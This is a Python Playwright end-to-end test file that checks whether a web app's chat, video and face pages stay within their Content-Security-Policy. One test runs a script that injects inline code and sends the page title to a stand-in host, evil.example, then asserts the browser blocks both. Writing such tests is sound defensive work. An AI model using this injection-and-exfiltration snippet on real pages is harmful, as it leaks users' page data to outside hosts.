"""The pages do all they do under their own Content-Security-Policy, and a browser holds them to it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page
from tests.e2e.conftest import Open, wait_until
from tests.process import Server

pytestmark = [pytest.mark.browser, pytest.mark.models]

TRY_TO_BREAK_IT = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.evil = 1';
  document.body.append(script);
  const image = new Image();
  image.src = 'http://evil.example/?' + document.title;
  return fetch('http://evil.example/').then(() => 'told', () => 'kept');
}"""


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return sorted(set(found))


def test_a_conversation_breaks_no_rule_and_a_strange_script_does(talker: Server, browse: Open) -> None:
    with browse(talker.http, csp=True) as page:
        page.get_by_role("textbox", name="Message").fill("Who are you?")
        page.keyboard.press("Enter")
        wait_until(page, "window.visavis.log.some(e => e.type === 'heard')")
        page.get_by_role("button", name="Settings").first.click()
        assert violations(page) == []
        assert page.evaluate(TRY_TO_BREAK_IT) == "kept"
        assert page.evaluate("window.evil") is None
        wait_until(page, "new Set(window.violations).size === 3")
        assert violations(page) == ["connect-src", "img-src", "script-src-elem"]


def test_the_video_view_breaks_no_rule(talker: Server, browse: Open) -> None:
    with browse(f"{talker.http}/?view=video", csp=True) as page:
        wait_until(page, "document.querySelector('canvas, video') !== null")
        assert violations(page) == []


def test_the_page_of_faces_breaks_no_rule(talker: Server, browse: Open, spoken: Callable[..., Path]) -> None:
    with browse(f"{talker.http}/face", csp=True) as page:
        page.locator("input[type=file]").set_input_files(spoken("Hello there."))
        wait_until(page, "document.querySelector('#file:not([hidden])') !== null")
        assert violations(page) == []
